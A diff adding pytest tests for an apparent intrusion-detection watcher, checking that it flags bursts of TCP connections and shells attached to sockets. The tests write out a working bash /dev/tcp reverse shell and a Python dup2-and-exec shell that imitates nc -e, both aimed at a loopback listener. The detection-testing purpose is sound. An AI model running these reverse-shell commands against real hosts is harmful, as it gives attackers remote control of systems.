@@ -247,3 +247,75 @@ def test_watch_keeps_its_latest_alerts_and_counts_all(watcher, monkeypatch):
     assert len(watcher.alerts) == ALERTS_KEPT < 1600  # ... the latest kept
     assert max(a["pid"] for a in watcher.alerts) == 5_001_599
     assert all(e["event"] == "incident_end" for e in watcher.take_ended()) and watcher.ended == []
+
+
+LISTENER = """import socket, sys, threading
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 0)); s.listen(64)
+print(s.getsockname()[1], flush=True)
+def serve(c):
+    c.sendall(sys.argv[1].encode()); c.settimeout(2)
+    try:
+        while c.recv(4096): pass
+    except OSError: pass
+    c.close()
+while True:
+    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
+"""
+
+
+@pytest.fixture
+def listener():
+    """A loopback TCP server that greets each connection with 'exit' (a reverse shell then ends); its port."""
+    p = subprocess.Popen([PY, "-c", LISTENER, "exit\n"], stdout=subprocess.PIPE, text=True)
+    try:
+        yield int(p.stdout.readline())
+    finally:
+        p.kill()
+        p.wait()
+
+
+def test_connect_burst(watcher, listener):
+    """One thread opening 16+ TCP connections to one address and port within 10 s (a password
+    guesser) fires connect_burst once; 10 connections, or 20 made by 20 processes, do not."""
+    loop = f"for p in $(seq {{n}}); do exec 3<>/dev/tcp/127.0.0.1/{listener} || exit 1; echo x$p >&3; exec 3>&-; done"
+    burst = subprocess.Popen(["bash", "-c", loop.format(n=30)])
+    few = subprocess.Popen(["bash", "-c", loop.format(n=10)])
+    apart = [subprocess.Popen(["bash", "-c", loop.format(n=1)]) for _ in range(20)]
+    for p in [burst, few, *apart]:
+        p.wait(30)
+    lines = pump(watcher, fired("connect_burst", burst.pid))
+    lines += pump(watcher, lambda ls: False, timeout=0.5)
+    hit = [a for a in lines if a["fired"] == "connect_burst" and a["pid"] == burst.pid]
+    assert burst.returncode == 0 and len(hit) == 1, lines[:3]
+    assert hit[0]["detail"]["port"] == listener and hit[0]["detail"]["connects"] == 16
+    assert 0 <= hit[0]["detail"]["seconds"] <= 10 and hit[0]["exe"].endswith("bash")
+    others = {few.pid, *(p.pid for p in apart)}
+    assert not [a for a in lines if a["fired"] == "connect_burst" and a["pid"] in others]
+
+
+def test_socket_shell(watcher, listener):
+    """A shell started with its stdin on an inet socket fires socket_shell: bash's redirection to
+    /dev/tcp, and a shell exec'd by a process that dup2'ed a socket onto fd 0-2 (nc -e); a shell
+    that talks to a socket on fd 3 (its builtins redirected to it for a moment) does not."""
+    rev = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener} 0>&1"],
+                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    code = (f"import os, socket; s = socket.create_connection(('127.0.0.1', {listener}))\n"
+            "for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nos.execvp('sh', ['sh', '-c', 'read x; true'])\n")
+    nce = subprocess.Popen([PY, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    fd3 = subprocess.Popen(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{listener}; echo hi >&3; read -r r <&3; exec 3>&-; sh -c true"])
+    for p in (rev, nce, fd3):
+        p.wait(30)
+    mine = {rev.pid, nce.pid, fd3.pid}  # bash -c may fork its one command: the shell is then its child
+
+    def who(a):
+        return a["pid"] if a["pid"] in mine else a["ppid"]
+    lines = pump(watcher, lambda ls: {who(a) for a in ls if a["fired"] == "socket_shell"} >= {rev.pid, nce.pid})
+    lines += pump(watcher, lambda ls: False, timeout=0.5)
+    hits = [a for a in lines if a["fired"] == "socket_shell" and who(a) in mine]
+    by = {who(a): a for a in hits}
+    assert rev.pid in by and nce.pid in by, lines[:3]
+    assert by[rev.pid]["detail"]["shell"] == "bash" and by[rev.pid]["detail"]["fds"] == [0, 1, 2]
+    assert by[nce.pid]["detail"]["shell"] in ("sh", "dash", "bash") and by[nce.pid]["pid"] == nce.pid
+    assert fd3.pid not in by and fd3.returncode == 0
+    # the shells the reverse shell starts (its .bashrc's) are its doing: one alert each
+    assert len(hits) == 2, [(a["pid"], a["ppid"], a["cmdline"]) for a in hits]
